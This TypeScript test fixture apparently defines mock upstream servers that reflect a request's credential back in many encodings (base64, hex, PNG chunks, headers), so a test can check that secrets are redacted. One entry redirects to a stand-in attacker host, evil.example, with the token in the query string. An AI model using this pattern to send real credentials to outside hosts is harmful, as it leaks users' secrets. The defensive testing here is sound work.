/** Upstreams that send a request's credential back in every conceivable form. */

import { chunk, png } from './pictures.ts';
import type { RecordedRequest, Reply } from './upstream.ts';

const hexEscapes = (text: string): string =>
  text
    .split('')
    .map((unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`)
    .join('');
const withType = (type: string, body: string | Uint8Array, more: Reply = {}): Reply => ({
  body,
  ...more,
  headers: { 'content-type': type, ...more.headers },
});

/** `header`: the whole header value; `secret`: what follows the scheme. */
export const REFLECTIONS: ReadonlyArray<(header: string, secret: string) => Reply> = [
  (header) => withType('application/json', JSON.stringify({ headers: { authorization: header } })),
  (header) => withType('application/json', `{"x":"${hexEscapes(header)}"}`),
  (header) => withType('application/json', JSON.stringify({ nested: JSON.stringify({ header }) })),
  (header) => withType('text/plain', `you sent ${header}, thank you`),
  (header) => withType('text/html', `<p>${header.replace(/"/g, '&quot;')}</p>`),
  (header) => withType('text/csv', `name,value\nauthorization,"${header.replace(/"/g, '""')}"\n`),
  (header) => withType('text/plain', encodeURIComponent(header)),
  (_header, secret) => withType('text/plain', Buffer.from(secret).toString('base64')),
  (_header, secret) => withType('text/plain', Buffer.from(secret).toString('hex')),
  (header) => withType('application/json', JSON.stringify({ error: `bad token ${header}` }), { status: 401 }),
  (header) => withType('image/png', png([chunk('tEXt', Buffer.from(`Comment\0${header}`))])),
  (header) => withType('image/png', Buffer.concat([png(), Buffer.from(header)])),
  (header) => withType('application/octet-stream', Buffer.from(`\0\0${header}\0`)),
  (header, secret) =>
    withType('text/plain', '', {
      status: 201,
      headers: {
        location: `/x?token=${encodeURIComponent(header)}`,
        etag: `"${Buffer.from(secret).toString('base64url')}"`,
      },
    }),
  (header) =>
    withType('text/plain', '', {
      status: 302,
      headers: { location: `https://evil.example/?${encodeURIComponent(header)}` },
    }),
];

/** The header with a request's credential, as text. */
export function credentialOf(request: RecordedRequest, name = 'authorization'): { header: string; secret: string } {
  const header = Buffer.from(request.all(name)[0] ?? '', 'latin1').toString();
  return { header, secret: header.replace(/^(?:Bearer|Basic) /, '') };
}

/** The forms in which a search must not find a secret. */
export const formsOf = (secret: string): string[] => [
  secret,
  JSON.stringify(secret).slice(1, -1),
  encodeURIComponent(secret),
  Buffer.from(secret).toString('base64').replace(/=+$/, ''),
  Buffer.from(secret).toString('base64url'),
  Buffer.from(secret).toString('hex'),
];
